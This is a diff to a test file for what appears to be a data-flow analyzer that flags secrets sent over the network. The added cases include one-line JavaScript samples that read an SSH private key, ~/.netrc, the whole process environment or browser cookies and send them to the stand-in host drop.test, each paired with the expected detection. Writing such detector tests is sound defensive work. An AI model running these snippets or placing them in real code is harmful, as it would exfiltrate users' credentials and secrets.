@@ -27,6 +27,26 @@ describe("data is followed from where it comes to where it goes", () => {
       ["secret:ssh ~/.ssh/* -> network:socket drop.test"],
     ],
     [
+      "values that a Map was filled with",
+      `const fs = require("fs"); const found = new Map(); found.set("key", { text: fs.readFileSync("/home/a/.ssh/id_rsa", "utf8") }); for (const [, { text }] of found) fetch("https://drop.test", { method: "POST", body: text })`,
+      ["secret:ssh /home/a/.ssh/id_rsa -> network:http drop.test"],
+    ],
+    [
+      "parameters of an address",
+      `const u = new URL("https://drop.test/ping"); u.searchParams.set("v", JSON.stringify(process.env)); fetch(u)`,
+      ["secret:whole-environment process.env -> network:http drop.test"],
+    ],
+    [
+      "a query that is set on an address",
+      `const u = new URL("https://drop.test/ping"); u.search = require("fs").readFileSync("/home/a/.netrc"); fetch(u)`,
+      ["secret:netrc /home/a/.netrc -> network:http drop.test"],
+    ],
+    [
+      "nothing from a Map or an address that holds nothing private",
+      `const key = require("fs").readFileSync("/home/a/.ssh/id_rsa"); const kept = new Map(); kept.set("k", key); const u = new URL("https://api.test"); u.searchParams.set("page", "2"); const seen = new Set(); seen.add("a"); fetch(u, { method: "POST", body: [...seen].join() })`,
+      [],
+    ],
+    [
       "cookies of a page",
       `const x = new XMLHttpRequest(); x.open("POST", "https://drop.test"); x.send(document.cookie)`,
       ["secret:browser document.cookie -> network:http drop.test"],
